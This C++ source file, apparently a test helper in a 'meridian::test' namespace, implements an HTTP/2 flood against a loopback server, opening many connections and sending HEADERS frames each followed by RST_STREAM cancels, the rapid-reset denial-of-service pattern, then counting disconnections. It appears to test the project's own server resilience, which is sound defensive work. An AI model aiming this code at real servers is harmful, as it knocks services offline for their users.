#include "h2flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <thread>
#include <vector>

namespace meridian::test {

namespace {

constexpr uint8_t kHeaders = 0x1;
constexpr uint8_t kRstStream = 0x3;
constexpr uint8_t kSettings = 0x4;
constexpr uint8_t kEndHeaders = 0x4;
constexpr uint8_t kAck = 0x1;
constexpr uint32_t kCancel = 0x8;

void appendFrame(std::string &out, uint8_t type, uint8_t flags, uint32_t stream,
                 const std::string &payload)
{
    const size_t n = payload.size();
    out += static_cast<char>((n >> 16) & 0xff);
    out += static_cast<char>((n >> 8) & 0xff);
    out += static_cast<char>(n & 0xff);
    out += static_cast<char>(type);
    out += static_cast<char>(flags);
    out += static_cast<char>((stream >> 24) & 0x7f);
    out += static_cast<char>((stream >> 16) & 0xff);
    out += static_cast<char>((stream >> 8) & 0xff);
    out += static_cast<char>(stream & 0xff);
    out += payload;
}

// HPACK "literal header field without indexing, new name", short strings only.
void appendHeader(std::string &block, const std::string &name, const std::string &value)
{
    block += '\0';
    block += static_cast<char>(name.size());
    block += name;
    block += static_cast<char>(value.size());
    block += value;
}

std::string headerBlock(const FloodPlan &plan)
{
    std::string block;
    appendHeader(block, ":method", "POST");
    appendHeader(block, ":scheme", "http");
    appendHeader(block, ":path", plan.path);
    appendHeader(block, ":authority", "127.0.0.1:" + std::to_string(plan.port));
    appendHeader(block, "content-type", "application/grpc");
    appendHeader(block, "te", "trailers");
    return block;
}

bool sendAll(int fd, const std::string &bytes)
{
    size_t sent = 0;
    while (sent < bytes.size()) {
        const ssize_t n = send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
        if (n <= 0)
            return false;
        sent += static_cast<size_t>(n);
    }
    return true;
}

int connectLoopback(int port)
{
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(port));
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, reinterpret_cast<sockaddr *>(&addr), sizeof addr) != 0) {
        close(fd);
        return -1;
    }
    const int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    return fd;
}

// One connection's attack; returns whether the server hung up on it.
bool floodOne(const FloodPlan &plan, std::atomic<int64_t> &sent,
              std::chrono::steady_clock::time_point deadline)
{
    const int fd = connectLoopback(plan.port);
    if (fd < 0)
        return true;
    std::atomic<bool> closed{false};
    // Drains whatever the server says, so its writes never stall on a full buffer.
    std::thread reader([&] {
        char buffer[65536];
        while (!closed) {
            pollfd p{fd, POLLIN, 0};
            if (poll(&p, 1, 100) <= 0)
                continue;
            if (recv(fd, buffer, sizeof buffer, 0) <= 0) {
                closed = true;
                break;
            }
        }
    });
    std::string opening = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    appendFrame(opening, kSettings, 0, 0, {});
    appendFrame(opening, kSettings, kAck, 0, {});
    bool ok = sendAll(fd, opening);
    const std::string block = headerBlock(plan);
    std::string rst(4, '\0');
    rst[3] = static_cast<char>(kCancel);
    std::string batch;
    uint32_t stream = 1;
    for (int64_t i = 0; ok && !closed && i < plan.streamsPerConnection; ++i) {
        appendFrame(batch, kHeaders, kEndHeaders, stream, block);
        if (plan.resetEachStream)
            appendFrame(batch, kRstStream, 0, stream, rst);
        stream += 2;
        if (batch.size() > 32 * 1024 || i + 1 == plan.streamsPerConnection) {
            ok = sendAll(fd, batch);
            batch.clear();
            if (std::chrono::steady_clock::now() > deadline)
                break;
        }
        if (ok)
            ++sent;
    }
    const bool hungUp = !ok || closed;
    closed = true;
    reader.join();
    close(fd);
    return hungUp;
}

}  // namespace

FloodOutcome floodHttp2(const FloodPlan &plan)
{
    const auto deadline = std::chrono::steady_clock::now() +
                          std::chrono::milliseconds(static_cast<int64_t>(plan.maxSeconds * 1000));
    std::atomic<int64_t> sent{0};
    std::atomic<int> hungUp{0};
    std::vector<std::thread> attackers;
    for (int c = 0; c < plan.connections; ++c) {
        attackers.emplace_back([&] {
            if (floodOne(plan, sent, deadline))
                ++hungUp;
        });
    }
    for (std::thread &t : attackers)
        t.join();
    return {sent.load(), hungUp.load()};
}

}  // namespace meridian::test
